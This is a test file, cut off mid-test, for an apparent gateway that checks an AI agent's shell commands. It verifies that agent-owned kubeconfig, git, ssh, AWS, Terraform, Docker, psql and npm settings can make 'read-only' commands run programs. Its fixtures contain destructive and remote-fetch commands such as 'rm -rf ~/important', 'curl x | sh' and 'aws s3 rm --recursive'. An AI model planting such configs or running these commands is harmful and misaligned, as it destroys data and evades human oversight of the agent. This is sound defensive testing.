import assert from 'node:assert/strict';
import { chmodSync, chownSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { ActionContext, Agent, Human } from '../core/index.ts';
import { createClassifier } from '../classify/index.ts';
import { createGateway, type Gateway } from '../gateway/index.ts';
import { engineWith } from '../../test/helpers/policy.ts';
import { counterIds, fakeClock } from '../../test/helpers/control-plane.ts';
import { createFsPathResolver } from './path-resolver.ts';

const kiro: Agent = { kind: 'agent', id: 'kiro', role: 'deployer', operator: 'dana', homeEnvironment: 'prod-cn-1' };
const local: Agent = { ...kiro, id: 'local' };
const dana: Human = { kind: 'human', id: 'dana', groups: ['admins'] };
const AGENT = { uid: 4343, groups: [4343] };

/**
 * D8 round 12 on the real filesystem, through the gateway with the real classifier and policy pack: the tools' own
 * configuration files of the agent's Unix user (a home and a repository it owns) make a read-only call run its program.
 */
describe('D8 round 12: tools\' own configuration files that run programs', { skip: process.getuid?.() === 0 ? false : 'needs root to chown files to the agent\'s user' }, () => {
  let root: string;
  let home: string;
  let repo: string;
  let sys: string;
  let gateway: Gateway;

  /** Writes `text` at `path` (and its folders) owned by `uid`. */
  const put = (path: string, text: string, uid = AGENT.uid) => {
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, text, { mode: 0o644 });
    chownSync(path, uid, uid);
    for (let d = join(path, '..'); d.startsWith(root) && d !== root; d = join(d, '..')) if (d.startsWith(home) || d.startsWith(repo)) chownSync(d, AGENT.uid, AGENT.uid);
  };
  const findings = async (command: string, context: Partial<ActionContext> = {}, agentId = 'kiro') => {
    const r = await gateway.evaluate({ agentId, action: { kind: 'shell', command }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin`, ...context } });
    // (the classifier's own finding for the renamed program goes with each; the gateway's says why)
    return r.facts.findings.filter((f) => f.code === 'program_changeable' && f.program?.source === 'config' && / runs what the agent's Unix user configures: /.test(f.message)).map((f) => f.message);
  };

  before(async () => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'portcullis-d8c-')));
    home = join(root, 'home');
    repo = join(home, 'app');
    sys = join(root, 'sys');
    mkdirSync(repo, { recursive: true });
    mkdirSync(join(repo, '.git'));
    for (const d of [home, repo, join(repo, '.git')]) chownSync(d, AGENT.uid, AGENT.uid);
    // root's programs, first on the session's PATH
    mkdirSync(sys, { mode: 0o755 });
    for (const p of ['aws', 'kubectl', 'gke-gcloud-auth-plugin']) writeFileSync(join(sys, p), '#!/bin/sh\n', { mode: 0o755 });
    const resolver = createFsPathResolver(() => [], { agentUser: (id) => (id === 'kiro' ? Promise.resolve({ ...AGENT, home }) : undefined) });
    const engine = engineWith();
    gateway = createGateway({
      classifier: await createClassifier(),
      inventory: { environments: [], unknownTier: 'production', controlPlanePaths: [] },
      directory: { agent: async (id) => (id === 'kiro' ? kiro : id === 'local' ? local : null), human: async (id) => (id === 'dana' ? dana : null) },
      paths: resolver,
      engine: () => engine,
      audit: { append: () => Promise.reject(new Error('not used by evaluate')) },
      approvals: { hold: () => Promise.reject(new Error('not used by evaluate')) },
      clock: fakeClock(),
      ids: counterIds(),
    });
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  it('D8 round 12 `~/.kube/config` with an exec plugin `sh -c …` makes `kubectl get pods` the agent\'s own program; an EKS plugin with root\'s `aws` stays a read', async () => {
    const kube = join(home, '.kube', 'config');
    put(kube, 'apiVersion: v1\nusers:\n- name: dev\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: sh\n      args: [-c, "rm -rf ~/important; echo {}"]\n');
    assert.deepEqual(await findings('kubectl get pods'), [
      `\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`), which the agent's Unix user can change, sets \`users[dev].user.exec\`, which runs \`sh -c rm -rf ~/important; echo {}\`, which is no known credential plugin's command`,
    ]);
    const verbs = (await gateway.evaluate({ agentId: 'kiro', action: { kind: 'shell', command: 'kubectl get pods' }, context: { cwd: repo, home, searchPath: `${sys}:/usr/bin:/bin` } })).facts.verbs;
    assert.ok(verbs.includes('exec'), JSON.stringify(verbs));
    // root's aws given other arguments is no credential plugin
    put(kube, 'users:\n- name: dev\n  user:\n    exec: { command: aws, args: [s3, rm, --recursive, "s3://prod-backups"] }\n');
    assert.match((await findings('helm list'))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `aws s3 rm --recursive s3:\/\/prod-backups`, which is no known credential plugin's command$/);
    // Benign neighbours: the EKS shape with root's aws (and no ~/.aws files), GKE's plugin, no kubeconfig, no Unix user (a local install).
    put(kube, 'users:\n- name: eks\n  user:\n    exec:\n      command: aws\n      args: [--region, eu-west-1, eks, get-token, --cluster-name, prod]\n      env: [{ name: AWS_PROFILE, value: prod }]\n- name: gke\n  user:\n    exec: { command: gke-gcloud-auth-plugin }\n');
    assert.deepEqual(await findings('kubectl get pods'), []);
    // ... but root's aws reading the agent's `~/.aws/config` whose credential_process is a shell snippet is not
    put(join(home, '.aws', 'config'), '[profile prod]\ncredential_process = sh -c "cat ~/.secret"\n');
    assert.match((await findings('kubectl get pods'))[0] ?? '', /which runs `aws`, and `aws` runs what the agent's Unix user configures: its configuration file `~\/\.aws\/config` \(`[^`]+`\), which the agent's Unix user can change, sets `\[profile prod\] credential_process`, which runs `sh -c "cat ~\/\.secret"`, a shell snippet Portcullis does not judge$/);
    assert.deepEqual(await findings('kubectl get pods', {}, 'local'), []);
    rmSync(join(home, '.aws'), { recursive: true });
    // the known shape run by the agent's own program (a folder of the agent's first on PATH) is the agent's own
    // (root's plugin taken away: the name is found on the agent's folder, last on PATH)
    rmSync(join(sys, 'gke-gcloud-auth-plugin'));
    put(join(home, 'bin', 'gke-gcloud-auth-plugin'), '#!/bin/sh\n');
    chmodSync(join(home, 'bin', 'gke-gcloud-auth-plugin'), 0o755);
    assert.deepEqual(await findings('kubectl get pods', { searchPath: `${sys}:${join(home, 'bin')}` }), [
      `\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`), which the agent's Unix user can change, sets \`users[gke].user.exec\`, which runs \`gke-gcloud-auth-plugin\`, which the agent's Unix user can change (this user owns \`${join(home, 'bin', 'gke-gcloud-auth-plugin')}\`)`,
    ]);
    rmSync(join(home, 'bin'), { recursive: true });
    writeFileSync(join(sys, 'gke-gcloud-auth-plugin'), '#!/bin/sh\n', { mode: 0o755 });
    rmSync(kube);
    assert.deepEqual(await findings('kubectl get pods'), []);
  });

  it('D8 round 12 a kubeconfig the agent cannot change is the operator\'s; one that cannot be parsed, or a session without a home, fails closed', async () => {
    const rootKube = join(root, 'etc-kube', 'admin.conf');
    mkdirSync(join(root, 'etc-kube'), { mode: 0o755 });
    writeFileSync(rootKube, 'users:\n- name: ops\n  user:\n    exec: { command: sh, args: [-c, "vault read …"] }\n', { mode: 0o644 });
    assert.deepEqual(await findings('kubectl get pods', { toolEnv: { KUBECONFIG: rootKube } }), []);
    const kube = join(home, '.kube', 'config');
    put(kube, 'users: [\n');
    assert.match((await findings('kubectl get pods'))[0] ?? '', /^`kubectl` runs what the agent's Unix user configures: its configuration file `~\/\.kube\/config` \(`[^`]+`\) cannot be read as a kubeconfig: it is not valid YAML/);
    // KUBECONFIG routes kubectl away from the broken default
    assert.deepEqual(await findings('kubectl get pods', { toolEnv: { KUBECONFIG: rootKube } }), []);
    // a link from the agent's folder to a file only the decision service may read: refused, its text never read
    const secret = join(root, 'etc-kube', 'service.key');
    writeFileSync(secret, 'users:\n- name: s3cr3t-token-value\n  user: { exec: { command: sh } }\n', { mode: 0o600 });
    rmSync(kube);
    symlinkSync(secret, kube);
    assert.deepEqual(await findings('kubectl get pods'), [`\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`) cannot be read by Portcullis: the agent's Unix user may not read it`]);
    rmSync(kube);
    assert.deepEqual(await findings('kubectl get pods', { home: undefined }), ['`kubectl` runs what the agent\'s Unix user configures: its configuration file `~/.kube/config` cannot be found: the session\'s home folder is not known']);
    // a relative KUBECONFIG entry: where kubectl looks is not known
    assert.deepEqual(await findings('kubectl get pods', { toolEnv: { KUBECONFIG: `${rootKube}:conf/kube` } }), ['`kubectl` runs what the agent\'s Unix user configures: its configuration file `KUBECONFIG=conf/kube` cannot be found: its path is relative to a folder that is not known']);
    // Without a session PATH (an SDK or HTTP caller), tools are trusted by their names as before.
    assert.deepEqual(await findings('kubectl get pods', { searchPath: undefined, home: undefined }), []);
  });

  it('D8/F8 a configuration file is read whole up to 256 KiB, and one larger fails closed', async () => {
    const kube = join(home, '.kube', 'config');
    // a padded file just under the bound is read to its end: the exec plugin after the padding is judged
    const plugin = 'users:\n- name: dev\n  user:\n    exec: { command: sh, args: [-c, "id"] }\n';
    put(kube, `${'# padding\n'.repeat(Math.floor((256 * 1024 - plugin.length) / 10))}${plugin}`);
    assert.match((await findings('kubectl get pods'))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `sh -c id`/);
    put(kube, `${'# padding\n'.repeat(26_215)}users: []\n`);
    assert.deepEqual(await findings('kubectl get pods'), [`\`kubectl\` runs what the agent's Unix user configures: its configuration file \`~/.kube/config\` (\`${kube}\`) cannot be read by Portcullis: it is larger than 262144 bytes`]);
    rmSync(kube);
  });

  it('D8 round 12 the project\'s `.git/config` `core.fsmonitor` makes `git status` the agent\'s own; a pager and an ssh key pass', async () => {
    const config = join(repo, '.git', 'config');
    const hook = join(home, 'fsmon.sh');
    put(hook, '#!/bin/sh\nrm -rf ~/important\n');
    put(config, `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${hook}\n`);
    mkdirSync(join(repo, 'src'), { recursive: true });
    assert.deepEqual(await findings('git status', { cwd: join(repo, 'src') }), [
      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${config}\`, which the agent's Unix user can change, sets \`core.fsmonitor\`, which runs \`${hook}\`, which the agent's Unix user can change (this user owns \`${hook}\`)`,
    ]);
    put(config, '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
    assert.deepEqual(await findings('git status'), [
      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${config}\`, which the agent's Unix user can change, sets \`core.fsmonitor\`, which runs \`sh -c 'curl x | sh'\`, a shell snippet Portcullis does not judge`,
    ]);
    // a worktree's own settings (`extensions.worktreeConfig`) are read too
    put(config, '[extensions]\n\tworktreeConfig = true\n');
    put(join(repo, '.git', 'config.worktree'), '[core]\n\tpager = "less; rm -rf ~/x"\n');
    assert.deepEqual(await findings('git log'), [
      `\`git\` runs what the agent's Unix user configures: its configuration file the repository's \`${join(repo, '.git', 'config.worktree')}\`, which the agent's Unix user can change, sets \`core.pager\`, which runs \`less; rm -rf ~/x\`, a shell snippet Portcullis does not judge`,
    ]);
    rmSync(join(repo, '.git', 'config.worktree'));
    // an include of the global file, followed from ~/.gitconfig
    rmSync(config);
    put(join(home, '.gitconfig'), '[user]\n\tname = Kiro\n[include]\n\tpath = .gitconfig.d/aliases\n');
    put(join(home, '.gitconfig.d', 'aliases'), '[alias]\n\tst = !git status && rm -rf ~/x\n');
    assert.match((await findings('git log'))[0] ?? '', /^`git` runs what the agent's Unix user configures: its configuration file included by `[^`]+\/\.gitconfig` \(`[^`]+\/\.gitconfig\.d\/aliases`\), which the agent's Unix user can change, sets `alias\.st`, which runs `git status && rm -rf ~\/x`, a shell snippet Portcullis does not judge$/);
    rmSync(join(home, '.gitconfig.d'), { recursive: true });
    // Benign neighbours: root's less as the pager, root's ssh with a key, a credential store, LFS's filter with root's git-lfs absent
    put(join(home, '.gitconfig'), '[core]\n\tpager = less -FRX\n\tsshCommand = ssh -i ~/.ssh/deploy\n[credential]\n\thelper = store\n[pager]\n\tlog = false\n');
    put(config, '[core]\n\tbare = false\n\tfsmonitor = false\n');
    assert.deepEqual(await findings('git status'), []);
    rmSync(join(home, '.gitconfig'));
  });

  it('D8 round 12 `~/.ssh/config` `ProxyCommand` with a shell snippet makes `ssh` (and git over ssh) the agent\'s own; a jump host passes', async () => {
    const ssh = join(home, '.ssh', 'config');
    put(ssh, 'Host *\n  ServerAliveInterval 30\nHost prod-*\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
    const expected = `its configuration file \`~/.ssh/config\` (\`${ssh}\`), which the agent's Unix user can change, sets \`Host prod-* ProxyCommand\`, which runs \`sh -c "nc %h %p; rm -rf ~/x"\`, a shell snippet Portcullis does not judge`;
    assert.deepEqual(await findings('ssh prod-db uptime'), [`\`ssh\` runs what the agent's Unix user configures: ${expected}`]);
    assert.deepEqual(await findings('git fetch origin'), [`\`git\` runs what the agent's Unix user configures: ${expected}`]);
    // an Include pattern is listed and followed
    put(ssh, 'Include config.d/*\n');
    put(join(home, '.ssh', 'config.d', 'work'), 'Match host * exec "curl -s x | sh"\n');
    assert.match((await findings('scp a prod:/tmp'))[0] ?? '', /included by `[^`]+\/\.ssh\/config` \(`[^`]+\/config\.d\/work`\), which the agent's Unix user can change, sets `Match exec`, which runs `curl -s x \| sh`, a shell snippet Portcullis does not judge$/);
    rmSync(join(home, '.ssh', 'config.d'), { recursive: true });
    // round 13: ssh reads the passwd entry's home, so a session HOME pointed elsewhere does not hide the real file
    put(ssh, 'Host *\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
    const elsewhere = join(root, 'elsewhere');
    mkdirSync(elsewhere, { recursive: true });
    assert.match((await findings('ssh prod-db uptime', { home: elsewhere }))[0] ?? '', /^`ssh` runs what the agent's Unix user configures: its configuration file `~\/\.ssh\/config` \(`[^`]+\/home\/\.ssh\/config`\), which the agent's Unix user can change, sets `Host \* ProxyCommand`/);
    // ... and git's own files still follow the session's HOME (git reads $HOME/.gitconfig)
    put(join(elsewhere, '.gitconfig'), '[core]\n\tpager = "less; rm -rf ~/x"\n');
    rmSync(ssh);
    assert.match((await findings('git log', { home: elsewhere }))[0] ?? '', /`~\/\.gitconfig` \(`[^`]+\/elsewhere\/\.gitconfig`\)/);
    rmSync(elsewhere, { recursive: true });
    put(ssh, 'Host bastion-*\n  ProxyCommand ssh -W %h:%p jump.example.com\n  IdentityFile ~/.ssh/id_ed25519\n');
    assert.deepEqual(await findings('ssh bastion-1 uptime'), []);
    rmSync(ssh);
  });
  it('D8 round 13 Terraform/OpenTofu, Docker, psql and npm configuration of the agent\'s user makes a read the agent\'s own; display and registry settings pass', async () => {
    const own = (tool: string) => new RegExp(`^\`${tool}\` runs what the agent's Unix user configures: `);
    // terraform: a provider dev override to a folder of the agent's (in ~/.terraformrc, or a `*.tfrc` in ~/.terraform.d)
    put(join(home, 'go', 'bin', 'terraform-provider-null'), '#!/bin/sh\n');
    put(join(home, '.terraformrc'), `provider_installation {\n  dev_overrides {\n    "hashicorp/null" = "${join(home, 'go', 'bin')}"\n  }\n  direct {}\n}\n`);
    assert.match((await findings('terraform plan'))[0] ?? '', /`~\/\.terraformrc` \([^)]+\), which the agent's Unix user can change, sets `provider_installation dev_overrides "hashicorp\/null"`, which runs `[^`]+\/go\/bin`, which the agent's Unix user can change \(this user owns/);
    rmSync(join(home, '.terraformrc'));
    put(join(home, '.terraform.d', 'mirror.tfrc'), `provider_installation {\n  filesystem_mirror {\n    path = "${join(home, 'mirror')}"\n  }\n}\n`);
    mkdirSync(join(home, 'mirror'));
    chownSync(join(home, 'mirror'), AGENT.uid, AGENT.uid);
    assert.match((await findings('tofu plan'))[0] ?? '', own('tofu'));
    // benign: credentials and the direct method only
    put(join(home, '.terraform.d', 'mirror.tfrc'), 'credentials "app.terraform.io" {\n  token = "x.atlasv1.y"\n}\n');
    assert.deepEqual(await findings('terraform plan'), []);
    rmSync(join(home, '.terraform.d'), { recursive: true });
    // docker: credsStore names a helper the agent's PATH folder holds; root's helper passes
    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(home, '.docker', 'config.json'), '{"auths": {}, "credsStore": "pass"}');
    put(join(home, 'bin', 'docker-credential-pass'), '#!/bin/sh\n');
    chmodSync(join(home, 'bin', 'docker-credential-pass'), 0o755);
    assert.match((await findings('docker ps', { searchPath: `${sys}:${join(home, 'bin')}` }))[0] ?? '', /sets `credsStore`, which runs `docker-credential-pass`, which the agent's Unix user can change/);
    rmSync(join(home, 'bin'), { recursive: true });
    writeFileSync(join(sys, 'docker-credential-pass'), '#!/bin/sh\n', { mode: 0o755 });
    assert.deepEqual(await findings('docker ps'), []);
    put(join(home, '.docker', 'config.json'), '{"credsStore": ');
    assert.match((await findings('docker ps'))[0] ?? '', /cannot be read as Docker CLI configuration/);
    rmSync(join(home, '.docker'), { recursive: true });
    // psql: `\!` in ~/.psqlrc, or in the version-specific ~/.psqlrc-16; display settings pass
    put(join(home, '.psqlrc'), '\\set QUIET 1\n\\timing on\n\\pset null \'(null)\'\n');
    assert.deepEqual(await findings('psql -c "select 1"'), []);
    put(join(home, '.psqlrc-16'), '\\! rm -rf ~/important\n');
    assert.match((await findings('psql -c "select 1"'))[0] ?? '', /`~\/\.psqlrc-\*` \([^)]+\.psqlrc-16`\), which the agent's Unix user can change, sets `line 1`, which is `\\! rm -rf ~\/important`, which is no display setting/);
    rmSync(join(home, '.psqlrc-16'));
    rmSync(join(home, '.psqlrc'));
    // npm: the project's .npmrc names the agent's script shell; a registry setting passes
    put(join(repo, '.npmrc'), `script-shell = ${join(home, 'sh')}\n`);
    put(join(home, 'sh'), '#!/bin/sh\n');
    assert.match((await findings('npm ls'))[0] ?? '', /the project's `[^`]+\/app\/\.npmrc`, which the agent's Unix user can change, sets `script-shell`, which runs `[^`]+\/sh`, which the agent's Unix user can change/);
    put(join(repo, '.npmrc'), 'registry=https://registry.npmjs.org/\nsave-exact=true\n');
    assert.deepEqual(await findings('npx prettier --check .'), []);
    rmSync(join(repo, '.npmrc'));
    rmSync(join(home, 'sh'));
  });
  it('D8 round 13 the configuration a call names itself (`--kubeconfig`, `KUBECONFIG=` prefix, `ssh -F`, `git -C`, `GIT_DIR=`) is judged; the defaults alone are not what runs', async () => {
    const kube = join(repo, 'conf', 'kube');
    put(kube, 'users:\n- name: dev\n  user:\n    exec: { command: sh, args: [-c, "rm -rf ~/important"] }\n');
    assert.deepEqual(await findings('kubectl get pods'), []);
    for (const command of ['kubectl --kubeconfig conf/kube get pods', 'KUBECONFIG=conf/kube kubectl get pods', `env KUBECONFIG=${kube} helm list`]) {
      assert.match((await findings(command))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `sh -c rm -rf ~\/important`, which is no known credential plugin's command \(as this call routes it: `KUBECONFIG=[^`]+\/conf\/kube`\)$/, command);
    }
    // a value Portcullis cannot know fails closed
    assert.match((await findings('kubectl --kubeconfig "$(ls conf/*)" get pods'))[0] ?? '', /cannot be found: its path is relative to a folder that is not known/);
    rmSync(join(repo, 'conf'), { recursive: true });
    // ssh -F, git -C and GIT_DIR
    put(join(repo, 'ssh.cfg'), 'Host *\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
    assert.match((await findings('ssh -F ssh.cfg prod uptime'))[0] ?? '', /`ssh -F [^`]+\/ssh\.cfg` \(`[^`]+`\), which the agent's Unix user can change, sets `Host \* ProxyCommand`/);
    assert.deepEqual(await findings('ssh prod uptime'), []);
    rmSync(join(repo, 'ssh.cfg'));
    const other = join(home, 'other');
    put(join(other, '.git', 'config'), '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
    assert.match((await findings(`git -C ${other} status`))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'curl x \| sh'`, a shell snippet Portcullis does not judge \(as this call routes it: `-C [^`]+\/other`\)$/);
    assert.match((await findings(`GIT_DIR=${other}/.git git log`))[0] ?? '', /sets `core\.fsmonitor`/);
    assert.deepEqual(await findings('git status'), []);
    // Benign neighbour: a root-owned kubeconfig named by the call
    const rootKube = join(root, 'etc-kube2', 'admin.conf');
    mkdirSync(join(root, 'etc-kube2'), { mode: 0o755 });
    writeFileSync(rootKube, 'users:\n- name: ops\n  user:\n    exec: { command: sh, args: [-c, "vault read x"] }\n', { mode: 0o644 });
    assert.deepEqual(await findings(`kubectl --kubeconfig ${rootKube} get pods`), []);
    rmSync(other, { recursive: true });
  });
  it('r13g Terraform reads every `*.tfrc` of its folder, dot files too (Go\'s filepath.Match), and OpenTofu its XDG `tofurc`', async () => {
    const own = /^`(terraform|tofu)` runs what the agent's Unix user configures: /;
    put(join(home, 'go', 'bin', 'terraform-provider-null'), '#!/bin/sh\n');
    const override = `provider_installation {\n  dev_overrides {\n    "hashicorp/null" = "${join(home, 'go', 'bin')}"\n  }\n}\n`;
    // terraform's loadConfigDir lists `*.tfrc` with filepath.Match, which (unlike a shell's glob) matches `.x.tfrc`
    put(join(home, '.terraform.d', '.hidden.tfrc'), override);
    assert.match((await findings('terraform plan'))[0] ?? '', own);
    rmSync(join(home, '.terraform.d'), { recursive: true });
    // OpenTofu (1.7+) reads `$XDG_CONFIG_HOME/opentofu/tofurc` (`~/.config` by default) and the `.tfrc` files there
    put(join(home, '.config', 'opentofu', 'tofurc'), override);
    assert.match((await findings('tofu plan'))[0] ?? '', own);
    rmSync(join(home, '.config', 'opentofu', 'tofurc'));
    put(join(home, '.config', 'opentofu', 'x.tfrc'), override);
    assert.match((await findings('tofu plan'))[0] ?? '', own);
    // benign neighbour: credentials only
    put(join(home, '.config', 'opentofu', 'x.tfrc'), 'credentials "app.terraform.io" {\n  token = "x.atlasv1.y"\n}\n');
    assert.deepEqual(await findings('tofu plan'), []);
    rmSync(join(home, '.config'), { recursive: true });
  });
  it('r13g `XDG_CONFIG_HOME=DIR git …` reads DIR/git/config: its fsmonitor is judged', async () => {
    put(join(repo, 'x', 'git', 'config'), '[core]\n\tfsmonitor = "rm -rf ~/x; true"\n');
    assert.match((await findings('XDG_CONFIG_HOME=./x git status'))[0] ?? '', /^`git` runs what the agent's Unix user configures: .*XDG_CONFIG_HOME=/);
    // benign neighbour: the same folder with display settings only
    put(join(repo, 'x', 'git', 'config'), '[color]\n\tui = auto\n');
    assert.deepEqual(await findings('XDG_CONFIG_HOME=./x git status'), []);
    rmSync(join(repo, 'x'), { recursive: true });
  });
  it('r13g psql reads `PSQLRC-<version>` (and `PGSYSCONFDIR/psqlrc-<version>`) in preference to the file the variable names', async () => {
    writeFileSync(join(sys, 'psql'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(repo, 'rc'), '\\timing on\n');
    put(join(repo, 'rc-16'), '\\! rm -rf ~\n');
    assert.match((await findings('PSQLRC=./rc psql -c "select 1"'))[0] ?? '', /^`psql` runs what the agent's Unix user configures: .*rc-16/);
    rmSync(join(repo, 'rc-16'));
    assert.deepEqual(await findings('PSQLRC=./rc psql -c "select 1"'), []);
    put(join(repo, 'etc', 'psqlrc-16.2'), '\\o |sh\n');
    assert.match((await findings('PGSYSCONFDIR=./etc psql -c "select 1"'))[0] ?? '', /psqlrc-16\.2/);
    rmSync(join(repo, 'etc'), { recursive: true });
    rmSync(join(repo, 'rc'));
  });
  it('D8 round 14 routing the classifier did not read: `cd DIR &&`, `export KUBECONFIG=`/`GIT_DIR=` earlier in the input, npm\'s `--userconfig`/`--prefix`', async () => {
    const own = (tool: string) => new RegExp(`^\`${tool}\` runs what the agent's Unix user configures: `);
    const other = join(home, 'other');
    put(join(other, '.git', 'config'), '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
    for (const command of [`cd ${other} && git status`, 'cd ../other; git log', 'pushd ../other && git status', '(cd ../other && git diff)', 'GIT_DIR=../other/.git; export GIT_DIR; git log', 'export GIT_DIR=../other/.git && git status']) {
      assert.match((await findings(command))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'curl x \| sh'`, a shell snippet Portcullis does not judge \(as this call routes it: /, command);
    }
    // a folder the input does not fix: fail closed
    assert.match((await findings('cd "$REPO" && git status'))[0] ?? '', /^`git` runs what the agent's Unix user configures: this call names a working folder/);
    // git finds the repository from the working folder, not the work tree (git(1) --work-tree; discovery from the cwd):
    // `--work-tree ../other` does not read ../other/.git/config, and the session's repository passes
    assert.deepEqual(await findings('git --work-tree ../other status'), []);
    assert.deepEqual(await findings('GIT_WORK_TREE=../other git status'), []);
    assert.deepEqual(await findings('git status'), []);
    assert.deepEqual(await findings(`cd ${repo} && git status`), []);
    assert.deepEqual(await findings('(cd ../other && ls); git status'), []);
    rmSync(other, { recursive: true });
    // KUBECONFIG exported earlier in the input
    put(join(repo, 'conf', 'kube'), 'users:\n- name: dev\n  user:\n    exec: { command: sh, args: [-c, "rm -rf ~/important"] }\n');
    for (const command of ['export KUBECONFIG=conf/kube; kubectl get pods', 'KUBECONFIG=conf/kube; helm list', 'cd conf && export KUBECONFIG=kube && kubectl get pods']) {
      assert.match((await findings(command))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `sh -c rm -rf ~\/important`, which is no known credential plugin's command \(as this call routes it: `KUBECONFIG=[^`]+\/conf\/kube`\)$/, command);
    }
    assert.deepEqual(await findings('export KUBE_EDITOR=vim; kubectl get pods'), []);
    rmSync(join(repo, 'conf'), { recursive: true });
    // npm's own options and a `cd` into a project whose `.npmrc` names the agent's script shell
    writeFileSync(join(sys, 'npm'), '#!/bin/sh\n', { mode: 0o755 });
    put(join(home, 'sh'), '#!/bin/sh\n');
    put(join(repo, 'cfg', 'npmrc'), `script-shell = ${join(home, 'sh')}\n`);
    for (const command of ['npm --userconfig cfg/npmrc ls', 'npm ls --globalconfig=cfg/npmrc', 'NPM_Config_UserConfig=cfg/npmrc npm ls']) assert.match((await findings(command))[0] ?? '', own('npm'), command);
    put(join(home, 'sub', '.npmrc'), `script-shell = ${join(home, 'sh')}\n`);
    for (const command of ['cd ../sub && npm ls', 'npm --prefix ../sub ls', 'npm -C ../sub run build']) assert.match((await findings(command))[0] ?? '', own('npm'), command);
    // benign neighbours: registry settings only
    put(join(repo, 'cfg', 'npmrc'), 'registry=https://registry.npmjs.org/\n');
    put(join(home, 'sub', '.npmrc'), 'save-exact=true\n');
    assert.deepEqual(await findings('npm --userconfig cfg/npmrc ls'), []);
    assert.deepEqual(await findings('cd ../sub && npm ls'), []);
    rmSync(join(repo, 'cfg'), { recursive: true });
    rmSync(join(home, 'sub'), { recursive: true });
    rmSync(join(home, 'sh'));
  });
  it('D8 round 14 docker\'s default CLI plugin folder `~/.docker/cli-plugins` is a folder of programs: the agent\'s makes docker its own', async () => {
    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
    const plugins = join(home, '.docker', 'cli-plugins');
    put(join(plugins, 'docker-compose'), '#!/bin/sh\nrm -rf ~/important\n');
    for (const command of ['docker compose ps', 'docker buildx ls', 'docker ps']) {
      assert.match((await findings(command))[0] ?? '', /^`docker` runs what the agent's Unix user configures: it runs the programs of its plugin folder `~\/\.docker\/cli-plugins` \(`[^`]+`\), which the agent's Unix user can change \(this user owns/, command);
    }
    // a root-owned file inside a folder the agent owns is still replaceable
    chownSync(join(plugins, 'docker-compose'), 0, 0);
    assert.match((await findings('docker compose ps'))[0] ?? '', /plugin folder/);
    // `docker --config D` names the config folder, and its `cli-plugins`
    const rootConfig = join(root, 'docker-etc');
    mkdirSync(join(rootConfig, 'cli-plugins'), { recursive: true, mode: 0o755 });
    writeFileSync(join(rootConfig, 'cli-plugins', 'docker-compose'), '#!/bin/sh\n', { mode: 0o755 });
    rmSync(join(home, '.docker'), { recursive: true });
    assert.deepEqual(await findings(`docker --config ${rootConfig} compose ps`), []);
    put(join(repo, 'd', 'cli-plugins', 'docker-buildx'), '#!/bin/sh\n');
    assert.match((await findings('docker --config ./d buildx ls'))[0] ?? '', /plugin folder `DOCKER_CONFIG=[^`]+\/d` \(`[^`]+\/d\/cli-plugins`\)/);
    rmSync(join(repo, 'd'), { recursive: true });
    // Benign neighbours: no plugin folder (nothing runs from it); an agent-owned `~/.docker` with only config.json
    assert.deepEqual(await findings('docker compose ps'), []);
    put(join(home, '.docker', 'config.json'), '{"auths": {}}');
    assert.deepEqual(await findings('docker ps'), []);
    rmSync(join(home, '.docker'), { recursive: true });
    rmSync(rootConfig, { recursive: true });
  });
  it('D8 round 14 `aws --profile P` (or AWS_PROFILE=P) changes no file: every profile\'s `credential_process` is judged, the one named or not', async () => {
    put(join(home, '.aws', 'config'), '[default]\nregion = eu-west-1\n[profile ops]\ncredential_process = sh -c "rm -rf ~/important; echo {}"\n');
    for (const command of ['aws s3 ls', 'aws --profile ops s3 ls', 'AWS_PROFILE=ops aws s3 ls', 'aws s3 ls --profile default']) {
      assert.match((await findings(command))[0] ?? '', /sets `\[profile ops\] credential_process`/, command);
    }
    // benign neighbour: SSO and keys only, in every profile
    put(join(home, '.aws', 'config'), '[default]\nregion = eu-west-1\n[profile ops]\nsso_session = corp\nsso_account_id = 111122223333\nsso_role_name = ReadOnly\n');
    assert.deepEqual(await findings('aws --profile ops s3 ls'), []);
    rmSync(join(home, '.aws'), { recursive: true });
  });
  it('D8 round 14 a submodule\'s own config (`.git/modules/<name>/config`, nested ones too) runs its fsmonitor on the superproject\'s `git status`', async () => {
    const modules = join(repo, '.git', 'modules');
    const evil = '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n';
    for (const sub of ['s', join('libs', 'deep'), join('s', 'modules', 'inner')]) {
      if (sub !== 's') put(join(modules, 's', 'config'), '[core]\n\tbare = false\n');
      put(join(modules, sub, 'config'), evil);
